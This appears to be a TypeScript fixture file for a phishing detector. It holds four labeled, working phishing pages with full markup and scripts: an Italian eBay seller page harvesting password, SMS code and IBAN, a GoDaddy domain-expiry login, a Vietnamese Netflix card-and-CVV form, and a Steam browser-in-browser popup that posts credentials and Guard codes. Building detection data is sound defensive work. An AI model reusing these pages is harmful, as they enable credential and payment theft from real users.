import { htmlRoute, redirectRoute, type Entry } from '../entry.js';
import { jsRoute, jsonRoute, cssRoute } from '../parts/e-bin.js';
import { CSS, MARK, b64, codes, doc, esc, stepRelay } from '../parts/ys-kit.js';

export const entries: Entry[] = [
{
  id: 'ys-ebay-seller-limited-it',
  label: 'phishing',
  kind: 'ebay-seller-kit',
  url: 'https://signin-ebay.it-verifica-account.com/ws/eBayISAPI.dll?SignIn&ru=https%3A%2F%2Fwww.ebay.it%2Fsh%2Fovw',
  body: doc({
    lang: 'it',
    title: 'Accedi o registrati | eBay',
    css: CSS.reset + `body{font-family:"Market Sans",Arial,sans-serif;color:#191919;background:#fff}.hd{padding:18px 28px}.c{width:380px;margin:20px auto;text-align:center}h1{font-size:28px;margin:10px 0}input{width:100%;height:48px;border:1px solid #8f8f8f;border-radius:8px;padding:0 14px;font-size:16px;margin:8px 0}button{width:100%;height:48px;background:#3665f3;color:#fff;border:0;border-radius:24px;font-weight:700;font-size:16px;margin-top:10px}.a{background:#fff5f5;border:1px solid #e0103a;border-radius:8px;padding:10px;font-size:14px;text-align:left}`,
    body: `<div class="hd">${MARK.ebay}</div><div class="c">
<h1>Ciao</h1><p>Accedi a eBay o <a href="#">crea un account</a></p>
<div class="a">Il tuo account venditore è stato <b>limitato</b>: abbiamo rilevato attività insolite sui tuoi annunci. Accedi per confermare i tuoi dati e sbloccare i pagamenti.</div>
<section data-step="user"><form><input name="userid" placeholder="Indirizzo email o nome utente" required><button>Continua</button></form></section>
<section data-step="pass" style="display:none"><form><input name="pass" type="password" placeholder="Password" required><button>Accedi</button></form></section>
<section data-step="sms" style="display:none"><form><p>Inserisci il codice inviato al tuo numero di cellulare</p><input name="sms" maxlength="6" required><button>Conferma</button></form></section>
<section data-step="iban" style="display:none"><form><p>Conferma il conto per gli accrediti</p><input name="intestatario" placeholder="Intestatario" required><input name="iban" placeholder="IBAN (IT...)" required><input name="cf" placeholder="Codice fiscale"><button>Conferma</button></form></section>
</div>
${stepRelay({ endpoint: '/ws/invio.php', finalUrl: 'https://www.ebay.it/' })}`,
  }),
},

{
  id: 'ys-godaddy-expiry-sso-kit-en',
  label: 'phishing',
  kind: 'registrar-login-kit',
  url: 'https://sso-godaddy.domain-renew-center.com/?realm=idp&app=dcc&path=%2Fcontrol%2Fportfolio',
  body: doc({
    title: 'Sign In | GoDaddy',
    css: CSS.reset + `body{font-family:"gdsherpa",Helvetica,Arial,sans-serif;background:#fff;color:#111}.top{background:#fff;border-bottom:1px solid #d4dbe0;padding:14px 24px}.ex{background:#fff3cd;color:#5b4600;text-align:center;padding:10px;font-size:14px}.c{width:400px;margin:36px auto;border:1px solid #d4dbe0;border-radius:8px;padding:32px}h2{font-size:26px;margin-top:0}input{width:100%;border:1px solid #767676;border-radius:4px;padding:12px;margin:6px 0 16px;font-size:16px}button{width:100%;background:#111;color:#fff;border:0;border-radius:4px;padding:13px;font-weight:700}`,
    body: `<div class="top">${MARK.godaddy}</div>
<div class="ex">⚠ <b>Your domain expires today.</b> Sign in to renew and avoid losing your website and email.</div>
<div class="c"><h2>Sign in</h2><form id="g" method="post" action="/login.php"><label>Username or Customer #</label><input name="username" required><label>Password</label><input name="password" type="password" required>
<label style="font-size:14px"><input type="checkbox" style="width:auto;margin:0 6px 0 0" checked>Keep me signed in on this device</label><button style="margin-top:16px">Sign In</button></form>
<p style="font-size:14px">Need to find <a href="#">your username</a> or <a href="#">your password</a>?</p></div>`,
  }),
},

{
  id: 'ys-netflix-payment-failed-vi',
  label: 'phishing',
  kind: 'streaming-billing-kit',
  url: 'https://netflix-vn-billing.com/account/payment-update',
  body: doc({
    lang: 'vi',
    title: 'Netflix',
    css: CSS.reset + `body{font-family:"Netflix Sans",Helvetica,Arial,sans-serif;background:#fff;color:#333}.hd{padding:18px 40px;border-bottom:1px solid #e6e6e6;color:#e50914;font-weight:900;font-size:30px;letter-spacing:-1px}.c{max-width:440px;margin:30px auto;padding:0 20px}input{width:100%;border:1px solid #8c8c8c;border-radius:2px;padding:16px 10px;font-size:16px;margin:6px 0}button{width:100%;background:#e50914;color:#fff;border:0;border-radius:4px;padding:16px;font-size:20px;margin-top:16px}.r{display:flex;gap:8px}`,
    body: `<div class="hd">NETFLIX</div><div class="c">
<h1 style="font-size:30px">Cập nhật phương thức thanh toán</h1>
<p>Chúng tôi không thể xử lý khoản thanh toán cho kỳ thanh toán tiếp theo. Gói <b>Cao cấp (260.000 ₫/tháng)</b> sẽ bị tạm ngưng nếu bạn không cập nhật thông tin trong 24 giờ.</p>
<form method="post" action="/account/payment-update/save"><input name="ten" placeholder="Tên trên thẻ" required><input name="so_the" placeholder="Số thẻ" required><div class="r"><input name="het_han" placeholder="Ngày hết hạn (MM/YY)" required><input name="cvv" placeholder="Mã bảo mật (CVV)" required></div><input name="sdt" placeholder="Số điện thoại"><button>Lưu</button></form></div>`,
  }),
},

{
  id: 'ys-steam-sponsored-stream-bitb-en',
  label: 'phishing',
  kind: 'browser-in-browser-kit',
  url: 'https://steamcommunlty.com/sponsorship/stream/apply?creator=lunaplays',
  body: doc({
    title: 'Brightforge Games — Sponsored Stream Program',
    css: CSS.reset + `body{font-family:"Motiva Sans",Arial,sans-serif;background:#1b2838;color:#c7d5e0}.hero{background:linear-gradient(180deg,#2a475e,#1b2838);padding:50px 20px;text-align:center}.hero h1{color:#fff;font-size:34px}.cta{background:linear-gradient(90deg,#47bfff,#1a44c2);color:#fff;border:0;padding:14px 28px;font-size:16px;border-radius:3px;cursor:pointer}.perks{max-width:780px;margin:30px auto;display:grid;grid-template-columns:repeat(3,1fr);gap:14px}.perks div{background:#16202d;padding:16px;border-radius:4px}
#win{display:none;position:fixed;left:50%;top:50%;transform:translate(-50%,-50%);width:620px;background:#fff;border-radius:8px;box-shadow:0 20px 60px rgba(0,0,0,.6);overflow:hidden}.tb{background:#dee1e6;padding:8px 12px;display:flex;align-items:center;gap:8px;font:13px Arial;color:#333}.tb i{width:12px;height:12px;border-radius:50%;display:inline-block}.url{flex:1;background:#fff;border-radius:14px;padding:4px 12px;color:#111}.url b{color:#188038}.pane{background:#171a21;padding:30px 40px;color:#b8b6b4}.pane input{width:100%;background:#32353c;border:0;border-radius:2px;padding:10px;color:#fff;margin:4px 0 14px}.pane button{background:linear-gradient(90deg,#06bfff,#2d73ff);border:0;color:#fff;padding:12px 40px;border-radius:2px;font-size:16px}`,
    body: `<div class="hero"><h1>Get paid to stream Ashfall: Frontier</h1><p>Selected creators receive $300–$1,800 per sponsored stream plus early-access keys for their community.</p><button class="cta" id="go">Sign in through Steam to apply</button></div>
<div class="perks"><div><b>Flexible schedule</b><br>Stream 2 hours any day during launch week.</div><div><b>Instant key drops</b><br>500 keys for your viewers.</div><div><b>Fast payouts</b><br>Paid within 72 hours via PayPal.</div></div>
<div id="win"><div class="tb"><i style="background:#ff5f57"></i><i style="background:#febc2e"></i><i style="background:#28c840"></i><span class="url">🔒 <b>https://steamcommunity.com</b>/openid/loginform/?goto=sponsorship</span></div>
<div class="pane"><div style="color:#fff;font-size:24px;font-weight:700;margin-bottom:18px">STEAM<sup>®</sup></div><form id="sf"><label style="color:#1999ff;font-size:12px;font-weight:700">SIGN IN WITH ACCOUNT NAME</label><input name="username" required><label style="font-size:12px;font-weight:700">PASSWORD</label><input name="password" type="password" required><button>Sign in</button></form>
<div id="g" style="display:none"><p>Enter the code from your Steam Mobile App</p><input id="gc" maxlength="5" style="text-transform:uppercase"><button id="gb">Submit</button></div></div></div>
<script>
document.getElementById('go').onclick=function(){document.getElementById('win').style.display='block'};
document.getElementById('sf').onsubmit=function(e){e.preventDefault();var d=Object.fromEntries(new FormData(this));fetch('/sponsorship/api/steam',{method:'POST',headers:{'content-type':'application/json'},body:JSON.stringify(d)});this.style.display='none';document.getElementById('g').style.display='block'};
document.getElementById('gb').onclick=function(){fetch('/sponsorship/api/guard',{method:'POST',body:document.getElementById('gc').value});this.textContent='Signing in...'};
</script>`,
  }),
},
];
